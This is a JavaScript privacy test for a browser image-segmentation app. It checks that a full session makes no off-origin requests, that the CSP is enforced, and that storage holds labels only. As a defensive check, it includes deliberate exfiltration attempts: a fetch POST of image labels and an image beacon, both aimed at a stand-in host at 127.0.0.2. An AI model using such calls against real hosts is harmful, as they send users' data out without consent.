// Privacy over a whole session (issue 6): load the page, open an image, segment it, export every
// format. Every request is recorded twice: by the browser (page and service worker) and by the
// server itself, which also counts request bodies. The test asserts that no request leaves the
// page's origin, that after start-up every request is a body-less GET for one of the app's own
// files (so none can carry image bytes), that the CSP is present and enforced, that the
// service worker caches only the app's own files, and that the browser's storage keeps the
// result's labels only.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { serveDir } from "./server.mjs";
import { launch, readyPage, segmentationEnd, viewAt, DATA } from "./browser.mjs";

const ROOT = path.resolve(import.meta.dirname, "../..");
const DIST = path.join(ROOT, "dist");
const IMAGE = path.join(DATA, "glas/images/testA_2.png");
// the app's own files, as the service worker lists them, plus the samples
const APP_FILES = /^\/(\?.*)?$|^\/(index\.html|app\.js|page\.js|models\.js|overlay_layer\.js|run\.js|viewer\.js|worker\.js|worker_client\.js|exports\.js|kept\.js|teach\.js|style\.css|sw\.js|histoseg\.js|histoseg_bg\.wasm|models\/(glands|nuclei)\.histoseg|samples\/[\w.-]+)$/;
let site;
const serverLog = [];

before(async () => {
  assert.ok(fs.existsSync(path.join(DIST, "index.html")), "build the viewer first (cargo xtask test does)");
  site = await serveDir(DIST, {}, serverLog);
});
after(async () => { site?.server.close(); });

test("a whole session sends nothing anywhere: no other origin, no image bytes, CSP enforced", { timeout: 600_000 }, async () => {
  const b = await launch({ webgpu: false });
  try {
    const origin = new URL(site.url).origin;
    const seen = []; // { url, method, body, phase, worker }
    let phase = "start-up";
    b.context.on("request", (r) => seen.push({ url: r.url(), method: r.method(), body: r.postDataBuffer()?.length ?? 0, phase, worker: !!r.serviceWorker() }));
    b.context.on("websocket", (ws) => seen.push({ url: ws.url(), method: "WEBSOCKET", body: 0, phase, worker: false }));

    const { page, problems } = await readyPage(b.context, site.url, "?backend=cpu&model=glands");
    // the service worker has installed and cached the app
    await page.waitForFunction(async () => (await navigator.serviceWorker.ready) && (await caches.keys()).some((k) => k.startsWith("histoseg-")), null, { timeout: 60_000 });
    const startupServer = serverLog.length;
    phase = "session";

    const imageBytes = fs.readFileSync(IMAGE);
    await page.setInputFiles("#file", IMAGE);
    await page.waitForFunction(() => window.histoseg.status === "opened", null, { timeout: 60_000 });
    await viewAt(page, 300, 200, 2);
    await page.click("#segment-view");
    const seg = await segmentationEnd(page);
    assert.equal(seg.status, "done", seg.errors.join("; "));
    const downloads = [];
    for (const button of ["#export-labels", "#export-overlay", "#export-geojson", "#export-csv", "#export-json"]) {
      const [d] = await Promise.all([page.waitForEvent("download"), page.click(button)]);
      downloads.push(d.url());
    }
    // a script that tried to send the image elsewhere would be stopped by the CSP
    phase = "attempts";
    const blocked = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
      const attempts = [
        fetch("http://127.0.0.2:9/upload", { method: "POST", body: new Uint8Array(await window.histoseg.labels()) }).then(() => "sent", () => "blocked"),
        new Promise((r) => { const i = new Image(); i.onload = () => r("sent"); i.onerror = () => r("blocked"); i.src = "http://127.0.0.2:9/pixel.png"; }),
      ];
      const results = await Promise.all(attempts);
      await new Promise((r) => setTimeout(r, 200));
      return { results, violations };
    });
    phase = "end";

    // 1. nothing left the origin (downloads are blob: URLs made in the page)
    for (const d of downloads) assert.ok(d.startsWith(`blob:${origin}/`), `download ${d}`);
    const offOrigin = seen.filter((r) => !r.url.startsWith(origin + "/") && !r.url.startsWith("blob:") && !r.url.startsWith("data:"));
    assert.deepEqual(offOrigin.filter((r) => r.phase !== "attempts"), [], "requests to other origins");
    // the two deliberate attempts were refused by the CSP before any connection
    assert.deepEqual(blocked.results, ["blocked", "blocked"]);
    assert.ok(blocked.violations.includes("connect-src") && blocked.violations.includes("img-src"), JSON.stringify(blocked.violations));
    assert.deepEqual(serverLog.filter((r) => !r.path.startsWith("/")), []);

    // 2. after start-up: only body-less GETs of the app's own files, and none carries image bytes
    const session = seen.filter((r) => r.phase === "session" && !r.url.startsWith("blob:"));
    for (const r of session) {
      assert.equal(r.method, "GET", r.url);
      assert.equal(r.body, 0, r.url);
      assert.match(new URL(r.url).pathname, APP_FILES, r.url);
    }
    const serverSession = serverLog.slice(startupServer);
    for (const r of serverSession) {
      assert.equal(r.method, "GET", r.path);
      assert.equal(r.bodyBytes, 0, r.path);
      assert.match(r.path.replace(/\?.*$/, ""), APP_FILES, r.path);
      assert.ok(r.path.length < 200, "no data in the address");
    }
    // the page's workers (which hold the wasm module, the image and the model) are watched too:
    // their fetches of the wasm module and the model are among the recorded requests
    const fromWorkers = seen.filter((r) => !r.worker && /\/(histoseg_bg\.wasm|models\/glands\.histoseg)$/.test(r.url));
    assert.ok(fromWorkers.length >= 2, `the workers' requests are recorded: ${JSON.stringify(fromWorkers)}`);
    // and no request of the whole session has a body at all, so none holds the image's bytes
    assert.deepEqual(seen.filter((r) => r.body > 0).map((r) => r.url), []);
    assert.deepEqual(serverLog.filter((r) => r.bodyBytes > 0), []);
    assert.ok(imageBytes.length > 100_000);

    // 3. the CSP is in the page and limits every kind of fetch to the origin
    const csp = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content);
    for (const directive of ["default-src 'self'", "connect-src 'self'", "img-src 'self' blob: data:", "form-action 'none'", "object-src 'none'"]) {
      assert.ok(csp?.includes(directive), `CSP lacks ${directive}: ${csp}`);
    }
    assert.ok(!/https?:|\*/.test(csp), `CSP allows another origin: ${csp}`);

    // 4. the service worker's cache holds only the app's own files, never the opened image
    const cached = await page.evaluate(async () => {
      const out = [];
      for (const k of await caches.keys()) for (const r of await (await caches.open(k)).keys()) out.push(r.url);
      return out;
    });
    assert.ok(cached.length >= 12, `cached: ${cached}`);
    for (const url of cached) {
      assert.ok(url.startsWith(origin + "/"), url);
      assert.match(new URL(url).pathname, APP_FILES, url);
      assert.ok(!url.includes("testA_2"), url);
    }
    // 5. the browser's own storage (IndexedDB, www/kept.js) holds the finished result to show it
    //    again after a reload: the region's labels, a byte a pixel, and where they lie; never
    //    the image. Keeping it made no request (the session above had none).
    const kept = await page.evaluate(() => window.histoseg.kept());
    assert.equal(kept.length, 1, JSON.stringify(kept));
    assert.deepEqual(Object.keys(kept[0]).sort(), ["backend", "fileKey", "glassTiles", "height", "key", "modelId", "name", "rawBytes", "savedAt", "tiled", "tiles", "umPerPx", "width", "x", "y"]);
    assert.equal(kept[0].rawBytes, seg.result.width * seg.result.height, "labels only");
    const dbs = await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name));
    assert.deepEqual(dbs, ["histoseg"], "no other storage");
    assert.deepEqual(problems.filter((p) => !p.includes("127.0.0.2")), []);
    console.log(`start-up: ${seen.filter((r) => r.phase === "start-up").length} browser requests (${startupServer} reached the server); ` +
      `session (open ${path.basename(IMAGE)}, segment, 5 exports): ${session.length} browser requests, ${serverSession.length} reached the server; ` +
      `requests with a body: 0; cached by the service worker: ${cached.length} files`);
  } finally {
    await b.close();
  }
});
